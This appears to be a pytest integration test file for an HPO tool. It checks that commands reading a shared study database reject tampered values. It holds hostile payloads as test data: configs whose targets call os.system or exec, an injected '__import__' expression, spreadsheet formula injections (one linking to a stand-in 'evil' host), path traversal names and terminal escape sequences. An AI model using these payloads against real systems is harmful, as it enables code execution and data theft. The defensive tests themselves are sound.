"""A shared study database is written by other drivers: what the stored-study commands
(`analyze`, `export-best`, `train-best`) read from it never runs code, never writes outside
`outputs/`, and a tampered value is one line and exit code 2 with nothing written."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from attack_support import VICTIM, StoredCopy, one_line_error, snapshot

pytestmark = pytest.mark.integration

COMMANDS = {
    "analyze": ["hpo", "analyze", "--study-name", VICTIM],
    "export-best": ["hpo", "export-best", "--study-name", VICTIM, "--output", "best.yaml"],
    "train-best": ["hpo", "train-best", "--study-name", VICTIM],
}


def _marker(stored: StoredCopy) -> Path:
    return stored.root.parent / f"{stored.root.name}-pwned"


def _objective(spec: Callable[[Path], Any]) -> Callable[[StoredCopy], None]:
    """Replace the stored config's objective section with ``spec(marker)``."""

    def tamper(stored: StoredCopy) -> None:
        config = stored.config()
        config["objective"] = spec(_marker(stored))
        stored.set_attr("ugro:config", config)

    return tamper


SYNTHETIC = "ugro_hpo.objectives.synthetic.SyntheticObjective"
LORA = "ugro_hpo.objectives.lora.LoraObjective"
TINY = {"_target_": "ugro_hpo.lora.models.TinyLlama", "cache_dir": "outputs/models"}
PYDOC = {"_target_": "ugro_hpo.lora.data.PydocTopics"}
HOSTILE_OBJECTIVES: dict[str, Callable[[Path], Any]] = {
    "Path.write_text as the objective": lambda m: {"_target_": "pathlib.Path.write_text", "self": str(m), "data": "x"},
    "os.system as the objective": lambda m: {"_target_": "os.system", "command": f"touch {m}"},
    "builtins.exec as the objective": lambda m: {"_target_": "builtins.exec", "_args_": [f"open('{m}','w')"]},
    "a look-alike of our class": lambda m: {"_target_": SYNTHETIC + "X"},
    "our module, another attribute": lambda m: {"_target_": "ugro_hpo.objectives.synthetic.time.sleep"},
    "a nested target in the model": lambda m: {"_target_": LORA, "model": {"_target_": "os.system", "command": f"touch {m}"}, "dataset": PYDOC},
    "a nested target in the dataset": lambda m: {"_target_": LORA, "model": TINY, "dataset": {"_target_": "pathlib.Path.touch", "self": str(m)}},
    "a nested target in an argument": lambda m: {"_target_": SYNTHETIC, "function": {"_target_": "os.system", "command": f"touch {m}"}},
    "a nested target in fixed settings": lambda m: {"_target_": LORA, "model": TINY, "dataset": PYDOC, "fixed": {"lr": {"_target_": "os.system"}}},
    "_partial_": lambda m: {"_target_": SYNTHETIC, "_partial_": True},
    "_args_ on our class": lambda m: {"_target_": SYNTHETIC, "_args_": ["branin"]},
    "an argument our class does not take": lambda m: {"_target_": SYNTHETIC, "evil": 1},
    "an argument of the wrong type": lambda m: {"_target_": SYNTHETIC, "sleep_s": "forever"},
    "a model far too large": lambda m: {"_target_": LORA, "dataset": PYDOC, "model": {**TINY, "hidden_size": 10**9}},
    "hours of sleep per step": lambda m: {"_target_": SYNTHETIC, "sleep_s": 1e9},
    "not a mapping": lambda m: "os.system",
    "a list": lambda m: [SYNTHETIC],
}  # fmt: skip


@pytest.mark.parametrize("command", sorted(COMMANDS))
@pytest.mark.parametrize("attack", sorted(HOSTILE_OBJECTIVES))
def test_a_stored_config_outside_the_allow_list_is_refused_and_nothing_runs(
    stored: StoredCopy, ugro: Any, attack: str, command: str
) -> None:
    _objective(HOSTILE_OBJECTIVES[attack])(stored)
    before = snapshot(stored.root)
    line = one_line_error(ugro(*COMMANDS[command]))
    assert "stored config" in line and "may have been altered" in line
    assert not _marker(stored).exists()
    assert snapshot(stored.root) == before  # nothing written, not even a directory's files
    assert not (stored.root / "outputs" / VICTIM).exists()


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_the_stored_commands_work_on_the_untampered_study(
    stored: StoredCopy, ugro: Any, command: str
) -> None:
    """The allow-list accepts what a run stores (the control for the table above)."""
    outcome = ugro(*COMMANDS[command])
    assert outcome.code in (0, None), outcome.err[-2000:]


def test_a_custom_objective_s_function_comes_from_the_command_line_not_the_study(
    stored: StoredCopy, ugro: Any, tmp_path: Path
) -> None:
    marker = _marker(stored)
    _objective(
        lambda m: {"_target_": "ugro_hpo.objectives.custom.CustomObjective", "fn": "os:system"}
    )(stored)
    line = one_line_error(ugro(*COMMANDS["train-best"]))
    assert "--objective-fn" in line and "never read from the study" in line
    # analyze and export-best do not need the function at all, and never import it
    assert ugro(*COMMANDS["analyze"]).code in (0, None)
    # with the function named by the person running the command, it is that one that runs
    outcome = ugro(*COMMANDS["train-best"], "--objective-fn", "fixture_objectives:quadratic_xy",
                   "--output-dir", str(tmp_path / "final"))  # fmt: skip
    assert outcome.code in (0, None), outcome.err[-2000:]
    assert json.loads((tmp_path / "final" / "final_metrics.json").read_text())["metrics"]
    assert not marker.exists()


@pytest.mark.parametrize(
    "overrides",
    [["model=tiny_llama"], ["model=hf", "model.name_or_path=org/m"], ["model=llama2_7b", "dataset=wikitext"],
     ["model=tinyllama_4bit", "dataset=hf", "dataset.path=org/d"], ["dataset=text_files", "dataset.paths=[a.txt]"],
     ["objective=synthetic"], ["objective=custom", "objective.fn=pkg.mod:fn"]],
)  # fmt: skip
def test_every_shipped_objective_model_and_dataset_passes_the_allow_list(
    overrides: list[str],
) -> None:
    from ugro_hpo.config import compose
    from ugro_hpo.config.plan import resolve
    from ugro_hpo.security.stored_objective import check_objective

    config = json.loads(json.dumps(resolve(compose(*overrides))))  # as the study stores it
    assert check_objective(config)["_target_"] == config["objective"]["_target_"]


def test_a_stored_model_that_runs_remote_code_needs_the_flag(stored: StoredCopy, ugro: Any) -> None:
    model = {"_target_": "ugro_hpo.lora.models.PretrainedModel", "name_or_path": "org/evil",
             "trust_remote_code": True}  # fmt: skip
    _objective(lambda m: {"_target_": LORA, "model": model, "dataset": PYDOC})(stored)
    before = snapshot(stored.root)
    line = one_line_error(ugro(*COMMANDS["train-best"]))
    assert "--trust-remote-code" in line
    assert snapshot(stored.root) == before


TAMPERED_ATTRIBUTES: dict[str, tuple[str, str]] = {
    "n_trials a word": ("ugro:n_trials", '"abc"'),
    "n_trials negative": ("ugro:n_trials", "-1"),
    "n_trials huge": ("ugro:n_trials", str(10**12)),
    "n_trials a boolean": ("ugro:n_trials", "true"),
    "config a list": ("ugro:config", '["os.system"]'),
    "config nested 5000 deep": ("ugro:config", "[" * 5000 + "]" * 5000),
    "metadata with a million values": ("ugro:metadata", json.dumps({"x": [0] * 1_000_000})),
    "metadata a string": ("ugro:metadata", '"x"'),
    "search space not JSON": ("ugro:search_space", json.dumps("{not json")),
    "search space nested 5000 deep": ("ugro:search_space", json.dumps("[" * 5000 + "]" * 5000)),
    "search space of 1 MB": ("ugro:search_space", json.dumps(" " * 1_000_000 + "{}")),
    "search space with an expression that calls": (
        "ugro:search_space",
        json.dumps(json.dumps({"parameters": {"x": {"type": "float", "min": 0, "max": 1,
                   "condition": "__import__('os').system('touch x')"}}, "objectives": [{"name": "y"}]})),
    ),
    "search space with nested powers": (
        "ugro:search_space",
        json.dumps(json.dumps({"parameters": {"x": {"type": "float", "min": 0, "max": 1}},
                   "constraints": ["(x ** 64) ** 64 > 1"], "objectives": [{"name": "y"}]})),
    ),
    "facts a list": ("ugro:facts", "[1]"),
}  # fmt: skip


@pytest.mark.parametrize("attack", sorted(TAMPERED_ATTRIBUTES))
def test_a_tampered_study_attribute_is_one_line_and_writes_nothing(
    stored: StoredCopy, ugro: Any, attack: str
) -> None:
    key, value_json = TAMPERED_ATTRIBUTES[attack]
    stored.set_raw_attr(key, value_json)
    before = snapshot(stored.root)
    for command in COMMANDS.values():
        one_line_error(ugro(*command))
    assert snapshot(stored.root) == before


def test_a_study_renamed_to_a_path_never_makes_a_path(stored: StoredCopy, ugro: Any) -> None:
    stored.sql("UPDATE studies SET study_name = ? WHERE study_name = ?", "../../x", VICTIM)
    outside = sorted(p.name for p in stored.root.parent.iterdir())
    before = snapshot(stored.root)
    for command in COMMANDS.values():
        renamed = [a if a != VICTIM else "../../x" for a in command]
        assert "--study-name" in one_line_error(ugro(*renamed))
        line = one_line_error(ugro(*command))  # the old name is gone; the new one is not shown
        assert "not valid study names" in line and "../../x" not in line
    assert snapshot(stored.root) == before
    assert sorted(p.name for p in stored.root.parent.iterdir()) == outside


def test_names_from_the_database_cannot_drive_the_terminal(stored: StoredCopy, ugro: Any) -> None:
    stored.sql(
        "UPDATE studies SET study_name = ? WHERE study_name = ?", "\x1b[2J\x1b]0;pwn\x07", VICTIM
    )
    outcome = ugro(*COMMANDS["analyze"])
    assert "\x1b" not in outcome.err + outcome.out and "\x07" not in outcome.err
    one_line_error(outcome)


def test_a_planted_link_at_the_default_output_is_refused(
    stored: StoredCopy, ugro: Any, tmp_path_factory: pytest.TempPathFactory
) -> None:
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    (stored.root / "outputs" / VICTIM).symlink_to(elsewhere, target_is_directory=True)
    for command in ("analyze", "train-best"):
        assert "leads outside" in one_line_error(ugro(*COMMANDS[command]))
    assert list(elsewhere.iterdir()) == []


def test_planted_file_links_are_replaced_not_written_through(
    stored: StoredCopy, ugro: Any, tmp_path_factory: pytest.TempPathFactory
) -> None:
    elsewhere = tmp_path_factory.mktemp("targets")
    out = stored.root / "out"
    out.mkdir()
    for name in ("summary.json", ".summary.json.tmp", "trials.csv", "best_params.yaml"):
        (elsewhere / name).write_text("precious")
        (out / name).symlink_to(elsewhere / name)
    assert ugro("hpo", "analyze", "--study-name", VICTIM, "--output-dir", str(out)).code in (
        0,
        None,
    )
    assert all(p.read_text() == "precious" for p in elsewhere.iterdir())
    assert not (out / "summary.json").is_symlink()
    assert json.loads((out / "summary.json").read_text())["study_name"] == VICTIM


def test_a_metric_name_with_a_newline_cannot_add_a_key_to_best_params(
    stored: StoredCopy, ugro: Any
) -> None:
    import optuna

    storage = optuna.storages.RDBStorage(stored.url)
    best = min((t for t in stored.study().trials if t.values), key=lambda t: t.values[0])
    trial_id = storage.get_trial_id_from_study_id_trial_number(
        storage.get_study_id_from_name(VICTIM), best.number
    )
    stored.sql("UPDATE trial_user_attributes SET value_json = ? WHERE trial_id = ? AND key = 'metrics'",
               json.dumps({"y\nevil_key: 1\n#": 1.0}), trial_id)  # fmt: skip
    assert ugro(*COMMANDS["export-best"]).code in (0, None)
    exported = yaml.safe_load((stored.root / "best.yaml").read_text())
    assert exported == best.params and "evil_key" not in exported


def test_analyze_reports_what_the_run_recorded(stored: StoredCopy, ugro: Any) -> None:
    """The summary's sampler and scheduler are the run's own, read back as plain text."""
    assert ugro(*COMMANDS["analyze"]).code in (0, None)
    summary = json.loads(
        next((stored.root / "outputs" / VICTIM).glob("analysis_*/summary.json")).read_text()
    )
    assert (
        summary["sampler"] == "optuna.samplers.GPSampler"
        and "Gaussian" in summary["sampler_reason"]
    )
    assert summary["scheduler"] == "ray.tune.schedulers.FIFOScheduler"


HOSTILE_TEXT = {
    "a formula": '=HYPERLINK("http://evil/"&A1,"open")',
    "a formula after +": "+cmd|' /C calc'!A0",
    "a formula after -": "-2+3+cmd|' /C calc'!A0",
    "a formula after @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a tab first": "\t=1+1",
    "a carriage return first": "\r=1+1",
    "terminal escapes": "\x1b[2J\x1b]0;pwned\x07cleared",
    "a bidirectional override": "abc\u202egnp.exe",
    "a NUL and DEL": "a\x00b\x7fc",
}


_TEXTS = sorted(HOSTILE_TEXT)


@pytest.mark.parametrize("group", [_TEXTS[0:3], _TEXTS[3:6], _TEXTS[6:9]], ids=["1", "2", "3"])
def test_text_from_the_database_is_written_to_csv_harmless(
    stored: StoredCopy, ugro: Any, group: list[str]
) -> None:
    import csv

    stored.sql("DELETE FROM trial_user_attributes WHERE key = 'error'")
    for trial_id, name in enumerate(group, start=1):  # the victim's three trials
        stored.sql("INSERT INTO trial_user_attributes (trial_id, key, value_json) VALUES (?, 'error', ?)",
                   trial_id, json.dumps(HOSTILE_TEXT[name]))  # fmt: skip
    stored.sql("UPDATE trial_user_attributes SET value_json = ? WHERE key = 'metrics'",
               json.dumps({"=1+1": 1.0, "y": -1.5}))  # fmt: skip
    assert ugro("hpo", "analyze", "--study-name", VICTIM, "--output-dir", "out").code in (0, None)
    raw = (stored.root / "out" / "trials.csv").read_text()
    assert not any(c in raw for c in "\x00\x07\x1b\x7f\r\t\u202e")
    rows = list(csv.reader(raw.splitlines()))
    assert len(rows) == 4 and "'=1+1" in rows[0]  # a metric name from the database, made plain
    errors = [row[-1] for row in rows[1:]]
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in errors), errors
    for name, cell in zip(group, errors, strict=True):
        text = HOSTILE_TEXT[name]
        if text[0] in "=+-@\t\r":
            assert cell.startswith("'"), (name, cell)
    column = rows[0].index("y")
    assert all(row[column] == "-1.5" for row in rows[1:]), rows  # a number stays a number
